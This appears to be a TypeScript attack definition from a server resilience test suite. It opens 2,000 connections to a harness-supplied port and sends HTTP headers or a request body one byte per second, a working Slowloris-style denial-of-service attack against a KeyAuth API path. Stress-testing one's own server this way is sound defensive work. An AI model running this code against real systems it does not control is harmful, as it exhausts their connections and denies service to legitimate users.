import type { Socket } from 'node:net'
import { crowd } from '../support/many-connections.ts'
import type { Attack } from './attack.ts'

const CONNECTIONS = 2_000
const HEAD = 'POST /api/KeyAuth/punchout/setup/json HTTP/1.1\r\nhost: a\r\nx-api-version: 6.0\r\n'
const BODY = `${HEAD}content-type: application/json\r\ncontent-length: 60000\r\n\r\n`

export const attack: Attack = {
  name: 'slow',
  what: `${CONNECTIONS} connections that send headers, or a body, a byte a second`,
  prepare:
    async ({ port }) =>
    (signal) => {
      const open = new Set<Socket>()
      const drip = setInterval(() => {
        for (const socket of open) socket.write('a')
      }, 1_000)
      signal.addEventListener('abort', () => clearInterval(drip))
      let hasBody = false
      return crowd(
        port,
        {
          size: CONNECTIONS,
          begin(socket) {
            hasBody = !hasBody
            open.add(socket)
            socket.on('close', () => open.delete(socket))
            socket.resume().write(hasBody ? BODY : HEAD)
          },
        },
        signal,
      )
    },
}
